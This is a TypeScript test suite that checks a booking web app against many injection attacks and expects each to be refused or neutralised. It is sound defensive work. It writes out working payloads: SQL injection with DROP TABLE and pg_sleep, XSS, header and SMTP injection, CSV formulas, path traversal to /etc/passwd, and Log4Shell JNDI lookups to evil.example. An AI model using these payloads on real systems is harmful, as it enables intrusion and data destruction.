import { createTransport } from 'nodemailer';
import { csv } from '../../src/platform/encoding/encodings.js';
import { translator } from '../../src/messages/texts/translator.js';
import { newId, startApp, type TestApp } from '../support/app.js';
import { attack } from '../support/attack.js';
import { eventually } from '../support/eventually.js';
import { type Given, givenIn } from '../support/given.js';
import { type Mailbox, openMailbox } from '../support/mailbox.js';
import { pairedDevice } from '../support/paired.js';
import { roomThatIsOn } from '../support/room.on.js';
import { openStream } from '../support/stream.js';
import { signInAs } from '../support/sign-in.js';
import { startWorker, type TestWorker } from '../support/worker.js';

/** Text that means something where it ends up: in a statement, a header, a cell, a line, a page, a log. */
describe('attacks: injection', () => {
  let vartti: TestApp;
  let given: Given;
  let mailbox: Mailbox;
  let worker: TestWorker;
  beforeAll(async () => {
    vartti = await startApp();
    given = givenIn(vartti);
    mailbox = await openMailbox();
    worker = await startWorker(vartti, mailbox.environment);
  });
  beforeEach(() => vartti.database.query('DELETE FROM request_count'));
  afterAll(async () => {
    await worker.close();
    await mailbox.stop();
    await vartti.close();
  });

  const rows = async (from: string) =>
    (await vartti.database.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${from}`))[0]?.n;
  const book = async (firstName: string, contact: string) => {
    const event = await given.event();
    const id = newId();
    const answer = await vartti.ask<{ link: string; code?: string }>(`PUT /registrations/${id}`, {
      body: { slotId: event.slots[0]?.id, firstName, contact, language: 'fi' },
    });
    return { ...answer, id, event };
  };
  const calendarOf = async (link: string) =>
    (await vartti.ask(`GET /links/${link}/calendar.ics`)).text.replaceAll('\r\n ', '');
  const nameOf = async (id: string) => {
    const [row] = await vartti.database.query<{ name: string }>(
      'SELECT p.first_name AS name FROM registration r JOIN young_person p ON p.id = r.person_id WHERE r.id = $1',
      [id],
    );
    return row?.name;
  };

  const letterTo = async (address: string) => {
    await worker.sweep();
    return eventually(async () => {
      const letter = (await mailbox.received()).find(({ to }) => to === address);
      expect(letter).toBeDefined();
      return letter;
    });
  };

  attack(
    'a statement in a name',
    'SQL injection: Heartland 2008, TalkTalk 2015, MOVEit 2023 (CVE-2023-34362)',
    async () => {
      const name = `'); DROP TABLE registration; --`;
      const { status, id } = await book(name, 'sql@example.fi');
      expect(status).toBe(200);
      expect(await nameOf(id)).toBe(name);
      for (const filter of [
        "' OR '1'='1",
        "fi') UNION SELECT version()--",
        '%',
        '_',
        "\\'; SELECT pg_sleep(900)--",
      ]) {
        // A filter that is run as a statement is ended by the database after half a minute, and answered with neither of these.
        const answer = await vartti.ask(
          `GET /openings?q=${encodeURIComponent(filter)}&language=${encodeURIComponent(filter)}`,
        );
        expect([200, 400]).toContain(answer.status);
      }
    },
  );

  attack(
    'a condition in place of an id',
    'NoSQL and ORM operators from the body: {"$gt": ""}, Rails hash conditions (CVE-2012-2661)',
    async () => {
      const event = await given.event();
      const before = await rows('registration');
      for (const slotId of [{ $ne: null }, { not: null }, ['a', 'b'], { toString: 'x' }, true, 1]) {
        const answer = await vartti.ask(`PUT /registrations/${newId()}`, {
          body: { slotId, firstName: 'Aino', contact: 'ehto@example.fi', language: 'fi' },
        });
        expect(answer.status).toBe(400);
      }
      expect(event.slots.length).toBeGreaterThan(0);
      expect(await rows('registration')).toBe(before);
    },
  );

  attack(
    'a header in a redirect or a cookie',
    'response splitting, CVE-2016-5699 and many frameworks before',
    async () => {
      for (const evil of [
        'fi%0d%0aSet-Cookie:%20vartti=evil',
        'fi%0aX-Evil:%201',
        '%E5%98%8D%E5%98%8ASet-Cookie:evil',
      ]) {
        const answer = await fetch(`${vartti.url}/api/openings?language=${evil}`, {
          headers: { 'X-Request-Id': 'a' },
        });
        expect(answer.headers.get('Set-Cookie')).toBeNull();
        expect(answer.headers.get('X-Evil')).toBeNull();
      }
    },
  );

  attack(
    'a second receiver in a name',
    'mail header injection: contact forms turned into spam relays, PHP mail() 2005',
    async () => {
      await mailbox.empty();
      const { status } = await book('Aino Bcc: kaikki@example.fi', 'otsake@example.fi');
      expect(status).toBe(200);
      for (const name of [
        'Aino\r\nBcc: kaikki@example.fi',
        'Aino\nSubject: x',
        'Aino\u2028Bcc: a@example.fi',
      ]) {
        const refused = await vartti.ask(`PUT /registrations/${newId()}`, {
          body: { slotId: newId(), firstName: name, contact: 'x@example.fi', language: 'fi' },
        });
        expect(refused.status).toBeGreaterThanOrEqual(400);
      }
      for (const contact of [
        'a@example.fi\r\nBcc: b@example.fi',
        'a@example.fi, b@example.fi',
        'a@example.fi;b@example.fi',
        '"a\r\nRCPT TO:<b@example.fi>"@example.fi',
      ])
        expect((await book('Aino', contact)).status).toBe(400);
      await letterTo('otsake@example.fi');
      const letters = await mailbox.received();
      const meant = ['otsake@example.fi', 'sql@example.fi'];
      expect(letters.map(({ to }) => to).filter((to) => !meant.includes(to))).toEqual([]);
    },
  );

  attack(
    'SMTP commands in an address',
    'nodemailer before 7.0.7 split quoted addresses wrongly (GHSA-mm7p-fcc7-pg87)',
    async () => {
      await mailbox.empty();
      const transport = createTransport({ url: mailbox.environment.SMTP_URL });
      const send = transport.sendMail({
        from: 'vartti@localhost',
        to: { name: '', address: '"xclow3n@gmail.com x"@example.fi' },
        subject: 'x',
        text: 'x',
      });
      await send.catch(() => undefined);
      transport.close();
      expect((await mailbox.received()).map(({ to }) => to)).not.toContain('xclow3n@gmail.com');
    },
  );

  attack(
    'a page in a letter',
    'HTML injection in notification mails: phishing sent from the victim’s own domain (many bug bounties)',
    async () => {
      await mailbox.empty();
      expect(
        (await book('<a href=//evil.example>x</a><img src=x onerror=alert(1)>', 'kirje@example.fi')).status,
      ).toBe(200);
      const letter = await letterTo('kirje@example.fi');
      expect(letter?.html).toBeDefined();
      expect(letter?.html).not.toMatch(/<a[^>]+evil\.example|<img src=x/);
    },
  );

  attack(
    'a placeholder in a name',
    'template injection: {{7*7}} in Jinja, Handlebars and ICU texts (Uber 2016)',
    async () => {
      const t = translator('fi') as (key: string, values?: Record<string, string>) => string;
      expect(typeof t('calendar.name')).toBe('string');
      await mailbox.empty();
      // Of four digits: two stand in every fiftieth letter, in the code or the link that is drawn by lot.
      const name = '{firstName} {{97*89}} ${97*89} <b>{0, plural, other{#}}</b>';
      const { status, id } = await book(name, 'malli@example.fi');
      expect(status).toBe(200);
      expect(await nameOf(id)).toBe(name);
      const letter = await letterTo('malli@example.fi');
      expect(letter?.text).toContain('{{97*89}}');
      expect(letter?.text).not.toContain(String(97 * 89));
    },
  );

  attack(
    'a line in a calendar',
    'iCalendar injection: an entry with an alarm and an organiser of the attacker’s (Google Calendar spam)',
    async () => {
      const staff = await given.ohjaamo();
      const cookie = await signInAs(vartti, (await given.staff({ ohjaamoId: staff.id })).email);
      const id = newId();
      await vartti.ask(`PUT /staff/events/${id}`, {
        cookie,
        body: {
          formatCode: 'tyonantajatreffit',
          ohjaamoId: staff.id,
          day: '2026-12-21',
          time: '14:00',
          title: { fi: 'Treffit; BEGIN:VALARM\\nATTACH:https://evil.example, END' },
        },
      });
      const { body } = await book('Aino', 'kalenteri@example.fi');
      const calendar = await calendarOf(body.link);
      const lines = calendar.split('\r\n');
      expect(lines.filter((line) => line === 'BEGIN:VEVENT')).toHaveLength(1);
      expect(lines.filter((line) => /^(BEGIN:VALARM|ATTACH|ORGANIZER|ATTENDEE)/.test(line))).toEqual([]);
      expect(calendar.split('\r\n').join('')).not.toMatch(/[\r\n]/);
    },
  );

  attack(
    'a formula in a cell',
    'CSV injection: =HYPERLINK in exports opened by staff (OWASP, many bounties)',
    async () => {
      const file = csv([['=cmd|calc!A1', '+358401', '-1+1', '@SUM(1)', '\t=1', '"=1', 'a;b']]);
      const cells = file
        .slice(1)
        .trim()
        .split(';"')
        .map((cell) => cell.replace(/^"/, ''));
      expect(cells.filter((cell) => /^[=+\-@\t]/.test(cell))).toEqual([]);
    },
  );

  attack(
    'an event in a stream',
    'newlines in server-sent events: messages forged to other listeners (Spring CVE-2024-38828’s kin)',
    async () => {
      const { LiveStream } = await import('../../src/platform/live/live-stream.js').then((module) => ({
        LiveStream: Object.values(module).find(
          (one) => typeof one === 'function' && /tell/.test(String(one)),
        ) as new () => {
          tell(id: string, event: string, value: object): void;
          on(name: string, hear: (part: Buffer) => void): void;
          destroy(): void;
        },
      }));
      const stream = new LiveStream();
      let heard = '';
      stream.on('data', (part) => void (heard += String(part)));
      stream.tell('1\nevent: evil', 'changed\ndata: {"a":1}\n\n', { about: 'x\n\nevent: evil\ndata: y' });
      await new Promise((soon) => setImmediate(soon));
      stream.destroy();
      expect(heard.split('\n').filter((line) => /^event: evil/.test(line))).toEqual([]);
      expect(heard.split('\n').filter((line) => /^data:/.test(line))).toHaveLength(1);
    },
  );

  attack(
    'a page, a line or an event in the name on the big screen',
    'stored XSS on departure boards and ticket screens: Ticketmaster 2018, airport displays that showed what was typed',
    async () => {
      const { id: ohjaamoId } = await given.ohjaamo();
      const { id: employerId } = await given.employer({ ohjaamoId });
      const room = await roomThatIsOn(vartti, given, ohjaamoId, employerId);
      const staff = await signInAs(vartti, (await given.staff({ ohjaamoId })).email);
      const board = await pairedDevice(vartti, staff, { kind: 'board', ohjaamoId, eventId: room.id });
      const come = (firstName: string, more: object = {}) =>
        vartti.ask(`PUT /walls/${room.wall}/tickets/${newId()}`, {
          body: { lines: room.known.lines, language: 'fi', firstName, ...more },
        });
      for (const name of ['Aino\u0000', 'Ai\u202Eno', '\ud800'])
        expect([name, (await come(name)).status]).toEqual([name, 400]);
      for (const initial of ['<', '&', '\n', 'AB', '\ud83d\ude00'])
        expect([initial, (await come('Aino', { initial })).status]).toEqual([initial, 400]);
      const page = `<img src=x onerror=alert(1)>`;
      expect((await come(page)).status).toBe(200);
      const lines = 'Eino\n\nevent: evil\ndata: {}';
      expect((await come(lines)).status).toBe(200);
      await vartti.database.query(`UPDATE ticket SET status = 'left' WHERE id = $1`, [room.known.ticketId]);
      const { text, headers } = await vartti.ask('GET /board/room', { cookie: board });
      // It travels as text in JSON, that no browser takes for a page; drawn is the first word of it, as text.
      expect(headers.get('Content-Type')).toMatch(/^application\/json/);
      expect(headers.get('X-Content-Type-Options')).toBe('nosniff');
      expect(text).toContain('<img');
      expect(text).not.toContain('onerror');
      const stream = await openStream(vartti, '/board/room/stream', board);
      const told = await stream.next();
      await vartti.database.query(
        `UPDATE ticket SET status = 'left' WHERE event_id = $1 AND first_name LIKE '<%'`,
        [room.id],
      );
      await vartti.database.query(`NOTIFY live, '{"topic":"room","id":"${room.id}"}'`);
      const next = await stream.next();
      stream.close();
      expect([next?.event, JSON.stringify(next?.data).includes('"Eino"')]).toEqual(['shown', true]);
      expect([told?.event, JSON.stringify(told?.data).includes('<img')]).toEqual(['shown', true]);
    },
  );

  attack(
    'the prototype of everything',
    'prototype pollution: lodash CVE-2019-10744, Kibana CVE-2019-7609',
    async () => {
      for (const body of [
        '{"__proto__":{"polluted":true},"contact":"a@example.fi","language":"fi"}',
        '{"constructor":{"prototype":{"polluted":true}},"contact":"a@example.fi","language":"fi"}',
      ])
        await vartti.ask('POST /sign-in/challenges', { body });
      await vartti.ask('GET /openings?__proto__[polluted]=1&constructor[prototype][polluted]=1');
      expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    },
  );

  attack(
    'states and roles sent along with a booking',
    'mass assignment: GitHub 2012, roles set by whoever sends them',
    async () => {
      const event = await given.event();
      const id = newId();
      const answer = await vartti.ask(`PUT /registrations/${id}`, {
        body: {
          slotId: event.slots[0]?.id,
          firstName: 'Aino',
          contact: 'massa@example.fi',
          language: 'fi',
          status: 'cancelled',
          channel: 'desk',
          personId: newId(),
          nonDisclosure: true,
          id: newId(),
        },
      });
      expect(answer.status).toBe(200);
      const [row] = await vartti.database.query<{ status: string; channel: string }>(
        'SELECT status, channel FROM registration WHERE id = $1',
        [id],
      );
      expect(row).toEqual({ status: 'active', channel: 'web' });
    },
  );

  attack(
    'a path beyond the API',
    'path traversal: Apache 2.4.49 (CVE-2021-41773), proxies that decode once more',
    async () => {
      for (const path of [
        '/api/events/..%2f..%2f..%2fetc%2fpasswd',
        '/api/..%2fhealth',
        '/api/logos/..%2f..%2fpackage.json',
        '/api/events/%2e%2e/%2e%2e/staff/month',
        '/api//staff/month',
        '/api/staff/month%00.png',
        '/api/logos/00000000-0000-0000-0000-000000000000.webp%00.svg',
      ]) {
        const answer = await fetch(vartti.url + path);
        expect([path, [400, 401, 404].includes(answer.status)]).toEqual([path, true]);
        expect(await answer.text()).not.toMatch(/root:|"scripts"/);
      }
    },
  );

  attack(
    'a line in the log',
    'log forging and Log4Shell (CVE-2021-44228): what is logged is read by machines',
    async () => {
      const written: string[] = [];
      const write = process.stdout.write.bind(process.stdout);
      const writeError = process.stderr.write.bind(process.stderr);
      const note = (part: unknown) => (written.push(String(part)), true);
      Object.assign(process.stdout, { write: note });
      Object.assign(process.stderr, { write: note });
      try {
        await book('${jndi:ldap://evil.example/a}\u001b[31m', 'loki@example.fi');
        await vartti.ask('GET /nothing%0aERROR%20forged', {
          headers: { 'User-Agent': '${jndi:ldap://evil.example}' },
        });
        await vartti.ask('POST /sign-in/challenges', { body: '{"contact": "JNDI-merkki"' });
      } finally {
        Object.assign(process.stdout, { write });
        Object.assign(process.stderr, { write: writeError });
      }
      expect(written.join('')).not.toMatch(/jndi|forged|merkki|\u001b\[31m/i);
    },
  );

  attack(
    'text that makes an expression run for ever',
    'ReDoS: Cloudflare 2019, Stack Overflow 2016',
    async () => {
      // An expression that backtracks doubles its time with each letter: of these it would never come back.
      for (const contact of [
        `${'a'.repeat(240)}@`,
        `${'a@'.repeat(120)}`,
        `${'.'.repeat(250)}`,
        `+${'0'.repeat(39)}`,
        `${' '.repeat(250)}x`,
        `a@${'a-'.repeat(120)}`,
      ])
        expect(
          (await vartti.ask('POST /sign-in/challenges', { body: { contact, language: 'fi' } })).status,
        ).toBe(400);
      await vartti.ask(`GET /openings?q=${encodeURIComponent('a '.repeat(2000))}`);
    },
  );

  attack(
    'letters that look alike or turn the line around',
    'Trojan Source (CVE-2021-42574) and names that read backwards',
    async () => {
      for (const name of ['Aino\u202Egnp.exe', 'Ai\u2066no', 'Aino\u0000', 'Aino\u0007', '\ud800'])
        expect((await book(name, 'suunta@example.fi')).status).toBe(400);
      // One person, however the letters were composed.
      const { id } = await book('A\u0308ka\u0308slompolo', 'koottu@example.fi');
      expect(await nameOf(id)).toBe('\u00c4k\u00e4slompolo');
    },
  );

  attack(
    'an address that becomes another in small letters',
    'GitHub’s password reset 2019: “ı” and “K” folded into somebody else’s address',
    async () => {
      const victim = await given.person({ email: 'kari@example.fi' });
      for (const contact of ['\u212Aari@example.fi', 'kar\u0131@example.fi', 'k\u0430ri@example.fi'])
        await vartti.ask('POST /sign-in/challenges', { body: { contact, language: 'fi' } });
      const sent = await vartti.database.query(
        'SELECT 1 FROM outgoing_message WHERE template = $1 AND address = $2',
        ['sign_in_code', victim.email],
      );
      expect(sent).toEqual([]);
    },
  );
});
